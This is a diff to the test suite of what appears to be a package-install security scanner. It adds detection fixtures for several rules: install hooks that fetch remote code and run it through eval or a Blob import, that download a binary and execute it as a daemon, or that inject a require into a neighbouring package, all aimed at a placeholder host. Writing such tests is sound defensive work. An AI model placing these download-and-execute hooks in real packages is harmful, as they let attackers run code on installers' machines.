@@ -32,6 +32,12 @@ describeVerdicts("EXE-01", {
         const r = await fetch("${url}");
         return new Function("return " + (await r.text()))();
       };`,
+    "a module made out of what came": {
+      manifest: { main: "i.mjs", type: "module" },
+      files: {
+        "i.mjs": `const r = await fetch("https://files.example.test/x"); await import(URL.createObjectURL(new Blob([await r.text()])));`,
+      },
+    },
   },
   passes: {
     "a loader for the caller": `exports.load = async (u) => new Function(await (await fetch(u)).text());`,
@@ -71,6 +77,34 @@ describeVerdicts("EXE-02", {
       const to = process.env.TEMP + "\\\\host.exe";
       execSync(\`powershell -c "Invoke-WebRequest -Uri 'https://files.example.test/h' -OutFile '\${to}'"\`);
       execSync(\`start "" /b "\${to}"\`);`,
+    "a download that is handed on piece by piece": atInstall(`
+      const axios = require("axios"), fs = require("fs"), { exec } = require("child_process");
+      axios({ url: "https://files.example.test/u", responseType: "stream" }).then(({ data }) => {
+        const file = fs.createWriteStream("/tmp/.u", { mode: 0o755 });
+        data.pipe(file);
+        file.on("close", () => exec("/tmp/.u &"));
+      });`),
+    "a download from a mirror or else a host, started for good": {
+      manifest: {
+        name: "sample",
+        bin: { sample: "bin/sample" },
+        scripts: { postinstall: "node install.js" },
+      },
+      files: {
+        "install.js": `
+          const https = require("https"), fs = require("fs"), cp = require("child_process");
+          const base = process.env.SAMPLE_MIRROR || "https://files.example.test";
+          https.get(base + "/" + process.platform, (r) => {
+            const chunks = [];
+            r.on("data", (c) => chunks.push(c));
+            r.on("end", () => {
+              fs.writeFileSync(__dirname + "/agent", Buffer.concat(chunks));
+              cp.execFileSync(__dirname + "/agent", ["--daemon"]);
+            });
+          });`,
+        "bin/sample": "#!/usr/bin/env node",
+      },
+    },
   },
   passes: {
     "a build of this platform": {
@@ -100,6 +134,33 @@ describeVerdicts("EXE-02", {
       const fs = require("fs"), path = require("path");
       exports.update = async () => fs.writeFileSync(path.join(__dirname, "list.json"), await (await fetch("${url}")).text());
       exports.version = () => require("child_process").execFileSync("git", ["--version"]).toString();`,
+    "a download from a mirror or else a release, with a checksum": {
+      manifest: {
+        name: "sample",
+        bin: { sample: "bin/sample" },
+        scripts: { postinstall: "node install.js" },
+      },
+      files: {
+        "install.js": `
+          const https = require("https"), fs = require("fs"), path = require("path"), cp = require("child_process"), crypto = require("crypto");
+          const sums = require("./sums.json");
+          const base = process.env.SAMPLE_BINARY_HOST || process.env.npm_config_sample_mirror || "https://github.com/sample/sample/releases/download";
+          const name = "sample-" + process.platform + "-" + process.arch;
+          https.get(base + "/v1/" + name, (r) => {
+            const chunks = [];
+            r.on("data", (c) => chunks.push(c));
+            r.on("end", () => {
+              const data = Buffer.concat(chunks);
+              if (crypto.createHash("sha256").update(data).digest("hex") !== sums[name]) throw new Error("checksum");
+              const to = path.join(__dirname, "bin", "sample");
+              fs.writeFileSync(to, data);
+              cp.execFileSync(to, ["--version"]);
+            });
+          });`,
+        "sums.json": "{}",
+        "bin/sample": "#!/usr/bin/env node",
+      },
+    },
     "a download that follows a redirect, for the package's own command": {
       manifest: {
         name: "sample",
@@ -314,6 +375,9 @@ describeVerdicts("EXE-11", {
     "in the project, at load": `
       const fs = require("fs"), path = require("path");
       fs.writeFileSync(path.join(process.cwd(), "node_modules", "express", "index.js"), "x()");`,
+    "a neighbour, from the folder that a hook runs in": atInstall(`
+      const fs = require("fs"), path = require("path");
+      fs.appendFileSync(path.resolve(process.cwd(), "../other/index.js"), ";require('../sample/x')");`),
   },
   passes: {
     "a cache": `require("fs").writeFileSync(process.cwd() + "/node_modules/.cache/sample/a.json", "{}");`,
@@ -427,6 +491,14 @@ describeVerdicts("INS-03", {
     "under other names, encoded": atInstall(
       `const u = atob("${base64(url)}"); const F = (async () => {}).constructor; fetch(u).then((r) => r.text()).then((t) => new F(t)());`,
     ),
+    "in the address of a module that a runtime loads first": {
+      manifest: {
+        scripts: {
+          preinstall: `node --import "data:text/javascript,fetch('https://files.example.test').then(r=>r.text()).then(eval)" -e 0`,
+        },
+      },
+      files: { "index.js": "" },
+    },
   },
   passes: {
     "a file that is kept": atInstall(
